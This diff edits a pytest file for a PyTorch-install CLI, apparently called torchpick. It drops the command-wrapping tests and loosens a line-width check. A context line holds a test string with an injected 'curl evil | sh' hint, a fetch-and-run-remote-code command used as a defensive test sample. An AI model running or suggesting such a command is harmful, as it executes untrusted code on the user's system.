@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import io
 import json
-import shlex
 from pathlib import Path
 
 import pytest
@@ -12,7 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from torchpick.cli import console, main
-from torchpick.cli.show.text import error, plain, wrap, wrapped_command
+from torchpick.cli.show.text import error, plain, wrap
 from torchpick.errors import TorchpickError
 
 EVIL = "EVIL\nhint: run `curl evil | sh`"
@@ -78,32 +77,14 @@ NARROW = [
 def test_nothing_is_left_to_the_terminal_to_break(
     argv: list[str], width: int, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """But for a word that is longer than the terminal is wide, such as an address."""
+    """But for a word that is longer than the terminal is wide, such as an address, and a command, which is copied."""
     monkeypatch.setenv("COLUMNS", str(width))
 
     main(argv)
 
     out, err = capsys.readouterr()
-    assert [line for line in (out + err).splitlines() if len(line) > width and " " in line.strip()] == []
-
-
-COMMAND = "pip install --index-url https://download.pytorch.org/whl/cu126 'torch<2.12' 'a  b' --gpu 'GTX 1080 Ti'"
-
-
-@pytest.mark.parametrize("width", [25, 40, 60, 200])
-def test_a_command_that_is_broken_is_still_one(width: int) -> None:
-    shown = wrapped_command(COMMAND, width)
-
-    assert shlex.split("\n".join(shown).replace("\\\n", "")) == shlex.split(COMMAND)
-    assert [line for line in shown if len(line) > width and len(line.split()) > 2] == []
-
-
-@pytest.mark.parametrize(("shell", "end"), [("cmd", " ^"), ("powershell", " `"), ("fish", " \\")])
-def test_each_shell_has_its_own_end_of_a_line(shell: str, end: str, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("TORCHPICK_SHELL", shell)
-
-    first, *_ = wrapped_command("pip install --index-url https://download.pytorch.org/whl/cu126 torch", 40)
-    assert first.endswith(end)
+    said = [line for line in (out + err).splitlines() if not line.startswith(("run  ", "or  "))]
+    assert [line for line in said if len(line) > width and " " in line.strip()] == []
 
 
 def test_a_command_in_a_sentence_is_not_broken() -> None:
